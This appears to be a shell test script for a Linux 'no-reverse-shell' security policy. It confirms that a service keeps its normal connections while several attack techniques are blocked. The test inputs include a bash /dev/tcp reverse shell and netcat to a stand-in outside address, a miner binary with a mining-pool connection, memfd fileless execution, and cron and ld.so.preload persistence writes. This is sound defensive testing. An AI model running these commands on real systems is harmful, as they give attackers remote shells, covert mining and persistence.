# shellcheck shell=sh disable=SC2034
# SPDX-License-Identifier: GPL-2.0-only OR BSD-2-Clause
# agent: shared
#
# Guarantees: a service under policies/no-reverse-shell.yaml runs shells and reaches its servers; no
# shell connects out, no miner runs or reaches a pool, and nothing stays.
#
# How: 192.0.2.1, which is on loopback here, is the outside.

# shellcheck source=tests/vm/policy_lib.sh
. tests/vm/policy_lib.sh

ip link set lo up
ip address add 192.0.2.1/32 dev lo
mkdir -p /etc/cron.d /opt/miner "$T/www"
echo "a page" >"$T/www/page"
cp /usr/bin/busybox /opt/miner/xmrig
cp /usr/bin/true /tmp/dropped
(cd "$T/www" && exec python3 -m http.server --bind 0.0.0.0 8443) >"$T/server" 2>&1 &
server=$!
wait_until 60 curl -s http://192.0.2.1:8443/page

service() {
	RUNS=$((${RUNS:-0} + 1))
	in_group "system.slice/app.service/$RUNS" "$@"
}

# by_shell TEXT: a command of the service, as system(3) has it.
by_shell() {
	service env sh -c "$1; echo status \$?"
}

in_force no-reverse-shell
works "a shell" "status 0" by_shell 'ls /etc >/dev/null'
works "the service's connection" "a page" service curl -s http://192.0.2.1:8443/page
works "bash, on this machine" "status 0" by_shell "bash -c 'exec 3<>/dev/tcp/127.0.0.1/8443'"
denied "bash -i >& /dev/tcp" "Permission denied" "deny connect 192.0.2.1:8443" \
	by_shell "bash -c 'bash -i >& /dev/tcp/192.0.2.1/8443 0>&1'"
denied "nc" "status 1" "deny connect 192.0.2.1:8443" by_shell 'nc -w 2 192.0.2.1 8443 </dev/null'
denied "nc, listening" "ermission denied" "deny listen 0.0.0.0:9000" by_shell 'timeout 5 nc -l 9000 </dev/null'
denied "a pool of miners" "Permission denied" "deny connect 192.0.2.1:3333" \
	by_shell 'curl -sv http://192.0.2.1:3333/ 2>&1'
denied "a miner" "status 137" "deny exec /opt/miner/xmrig" by_shell '/opt/miner/xmrig'
denied "what was dropped" "Permission denied" "deny exec /tmp/dropped" by_shell '/tmp/dropped'
denied "from memory" "Permission" "deny anonymous-exec anonymous-exec" service python3 -c '
import os
fd = os.memfd_create("x")
os.write(fd, open("/usr/bin/true", "rb").read())
os.execve("/proc/self/fd/%d" % fd, ["x"], {})'
denied "cron" "Permission denied" "deny create /etc/cron.d/x" by_shell 'echo x >/etc/cron.d/x'
denied "ld.so.preload" "Permission denied" "deny create /etc/ld.so.preload" by_shell 'echo x >/etc/ld.so.preload'
works "the service, still" "a page" service curl -s http://192.0.2.1:8443/page
kill $server
wait $server 2>/dev/null
ip address del 192.0.2.1/32 dev lo
rm -rf /opt/miner /tmp/dropped
